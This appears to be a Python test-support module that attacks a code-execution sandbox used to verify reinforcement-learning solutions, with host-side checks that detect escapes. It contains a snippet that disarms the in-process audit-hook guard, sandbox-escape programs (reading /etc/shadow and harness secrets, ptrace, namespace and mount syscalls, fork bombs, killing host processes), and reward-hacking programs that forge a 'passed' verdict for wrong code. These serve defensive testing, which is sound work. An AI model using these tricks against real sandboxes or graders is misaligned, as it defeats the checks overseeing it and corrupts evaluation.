"""Attack programs against the code sandbox, each with the host-side check that says whether
it escaped (tests/test_security_sandbox.py and benchmarks/hostile.py both use them).

Every attack first switches the audit-hook guard rail off (it is reachable from the
candidate's own process), so what stops it is the kernel boundary alone.
"""
from __future__ import annotations

import os
import time
from dataclasses import dataclass

# Clears the guard rail's rule sets through the garbage collector: the hook then allows
# everything, as a determined program could arrange.
DISARM = """
import gc, os, os.path
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, '__name__', '') == 'hook' and obj.__closure__:
        for cell in obj.__closure__:
            try:
                if isinstance(cell.cell_contents, (set, dict)):
                    cell.cell_contents.clear()
            except ValueError:
                pass
os.path.realpath = lambda path, **kw: os.getcwd() + '/x'   # every path looks inside
"""


@dataclass(frozen=True)
class Attack:
    name: str
    program: str          # formatted with marker=, port=, pid=, secret_env=
    host_marker: bool = False   # escaped if the host path /tmp/MARKER (or /dev/shm/...) appears


ATTACKS = [
    Attack("read_etc_shadow", "print('ESCAPED' if 'root:' in open('/etc/shadow').read() else '')"),
    Attack("read_host_passwd",
           "print('ESCAPED' if 'root:x' in open('/etc/passwd').read() else '')"),
    Attack("write_host_tmp", "open('/tmp/{marker}', 'w').write('x')", host_marker=True),
    Attack("write_host_dev_shm", "open('/dev/shm/{marker}', 'w').write('x')", host_marker=True),
    Attack("posixshmem", "import _posixshmem\nfd = _posixshmem.shm_open('/{marker}', "
                         "os.O_CREAT | os.O_RDWR, 0o600)\nos.write(fd, b'x')", host_marker=True),
    Attack("write_usr", "open('/usr/{marker}', 'w').write('x')"),
    Attack("hard_link_out", "os.link('/usr/bin/true', '/tmp/{marker}')", host_marker=True),
    Attack("dirfd_write", "fd = os.open('/tmp', os.O_RDONLY)\n"
                          "os.close(os.open('{marker}', os.O_WRONLY | os.O_CREAT, dir_fd=fd))",
           host_marker=True),
    Attack("parent_environ", "import glob\nfor p in glob.glob('/proc/*/environ'):\n    try:\n"
                             "        d = open(p, 'rb').read()\n    except OSError:\n"
                             "        continue\n    print('ESCAPED' if b'{secret_env}' in d "
                             "else '')"),
    Attack("proc_mem_of_harness", "pid = os.getppid()\nf = open(f'/proc/{{pid}}/mem', 'rb')\n"
                                  "print('ESCAPED')"),
    Attack("harness_fds", "pid = os.getppid()\nprint('ESCAPED', os.listdir(f'/proc/{{pid}}/fd'))"),
    Attack("see_host_processes", "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
                                 "print('ESCAPED' if len(pids) > 10 else '')"),
    Attack("kill_host_process", "os.kill({pid}, 9)\nprint('ESCAPED')"),
    Attack("connect_host_loopback", "import socket\ns = socket.create_connection(('127.0.0.1', "
                                    "{port}), timeout=2)\ns.sendall(b'{marker}')\n"
                                    "print('ESCAPED')"),
    Attack("setns_host_net", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                             "fd = os.open('/proc/1/ns/net', os.O_RDONLY)\n"
                             "print('ESCAPED' if libc.setns(fd, 0) == 0 else '')"),
    Attack("unshare_user", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                           "print('ESCAPED' if libc.unshare(0x10000000) == 0 else '')"),
    Attack("ptrace_harness", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                             "print('ESCAPED' if libc.ptrace(16, os.getppid(), 0, 0) == 0 "
                             "else '')"),
    Attack("mount_tmpfs", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "print('ESCAPED' if libc.mount(b'none', b'/usr', b'tmpfs', 0, None)"
                          " == 0 else '')"),
    Attack("fork_bomb", "n = 0\ntry:\n    while n < 5000:\n        if os.fork() == 0:\n"
                        "            import time; time.sleep(20); os._exit(0)\n        n += 1\n"
                        "except OSError:\n    pass\nprint('ESCAPED' if n >= 5000 else '')"),
    Attack("setsid_survivor", "if os.fork() == 0:\n    os.setsid()\n"
                              "    os.execv('/usr/bin/sleep', ['sleep', '{sleep_s}'])\n"
                              "print('started')"),
    Attack("network_interfaces", "print('ESCAPED' if open('/proc/net/dev').read().count(':')"
                                 " > 1 else '')"),
    Attack("chroot_escape", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                            "os.mkdir('x')\nprint('ESCAPED' if libc.chroot(b'x') == 0 else '')"),
    Attack("keyctl", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                     "print('ESCAPED' if libc.syscall(250, 0, -3, 0) >= 0 else '')"),
    Attack("bpf", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                  "print('ESCAPED' if libc.syscall(321, 0, 0, 0) >= 0 else '')"),
    Attack("io_uring", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                       "print('ESCAPED' if libc.syscall(425, 1, 0) >= 0 else '')"),
    Attack("clone_new_user_ns", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                                "pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\n"
                                "if pid == 0:\n    os._exit(0)\n"
                                "print('ESCAPED' if pid > 0 else '')"),
    Attack("read_root_home", "print('ESCAPED', os.listdir('/root'))"),
    Attack("read_work_repo", "print('ESCAPED', os.listdir('/work/main'))"),
]

# Programs that try to make a wrong solution (f() should return 1) report `passed`.
FORGERIES = {
    "system_exit_0_before_tests": "raise SystemExit(0)\ndef f():\n    return 1\n",
    "os_exit_0_before_tests": "import os\nos._exit(0)\n",
    "stderr_memoryerror_text": "import sys\nsys.stderr.write('MemoryError\\nsandbox: blocked\\n')"
                               "\ndef f():\n    return 2\n",
    "write_verdict_to_every_fd": "import os, json\nfor fd in range(3, 64):\n    try:\n"
                                 "        os.write(fd, json.dumps({'status': 'passed'})"
                                 ".encode())\n    except OSError:\n        pass\n"
                                 "os._exit(0)\n",
    "eq_always_true": "class Yes:\n    def __eq__(self, other):\n        return True\n"
                      "def f():\n    return Yes()\n",
    "patch_builtins_assert": "import builtins\nbuiltins.AssertionError = type('X', (Exception,)"
                             ", {})\ndef f():\n    return 2\n",
    "fake_protocol_loaded": "import os, struct, json\nb = json.dumps({'loaded': True}).encode()"
                            "\nfor fd in range(3, 64):\n    try:\n        os.write(fd, "
                            "struct.pack('=I', len(b)) + b)\n    except OSError:\n        pass"
                            "\nos._exit(0)\n",
    "kill_harness": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
    "exit_code_zero_from_thread": "import threading, os\nthreading.Thread(target=lambda: "
                                  "os._exit(0)).start()\nimport time\ntime.sleep(1)\n",
}
FORGERY_TESTS = "assert f() == 1\n"


def marker() -> str:
    return f"rl26-{os.getpid()}-{os.urandom(4).hex()}"


def _survivors(tag: str) -> list[int]:
    """Host processes whose command line holds `tag` (what a setsid'd child would be)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if tag.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            continue
    return found


def try_attack(attack: Attack, limits) -> dict:
    """Run one attack in the sandbox; `escaped` is decided on the host side only."""
    import socket
    import subprocess
    import threading

    from reasonloom.verifiers.sandbox import run_code

    tag = marker()
    sleep_s = f"{37 + int.from_bytes(os.urandom(2), 'big') / 1e5:.5f}"
    secret = f"sk-{tag}"
    received: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(100))
                except OSError:
                    pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    victim = subprocess.Popen(["sleep", "60"])
    os.environ["RL26_SECRET"] = secret
    try:
        program = DISARM + attack.program.format(marker=tag, port=listener.getsockname()[1],
                                                 pid=victim.pid, secret_env=secret,
                                                 sleep_s=sleep_s)
        result = run_code(program, "", limits)
        time.sleep(0.2)
        host_paths = [f"/tmp/{tag}", f"/dev/shm/{tag}", f"/usr/{tag}"]
        evidence = {
            "printed_escaped": "ESCAPED" in result.stdout,
            "host_file": any(os.path.lexists(p) for p in host_paths),
            "network": any(tag.encode() in r for r in received),
            "victim_killed": victim.poll() is not None,
            "secret_seen": secret in result.stdout + result.stderr,
            "survivor": bool(_survivors(sleep_s)),
        }
    finally:
        os.environ.pop("RL26_SECRET", None)
        stop.set()
        thread.join(2)
        listener.close()
        victim.kill()
        victim.wait()
        for pid in _survivors(sleep_s):
            os.kill(pid, 9)
        for p in (f"/tmp/{tag}", f"/dev/shm/{tag}", f"/usr/{tag}"):
            if os.path.lexists(p):
                os.unlink(p)
    return {"attack": attack.name, "status": result.status,
            "escaped": any(evidence.values()), "evidence": [k for k, v in evidence.items() if v]}


def try_forgery(name: str, limits) -> dict:
    from reasonloom.verifiers.sandbox import run_code

    result = run_code(FORGERIES[name], FORGERY_TESTS, limits)
    return {"forgery": name, "status": result.status, "forged": result.passed}
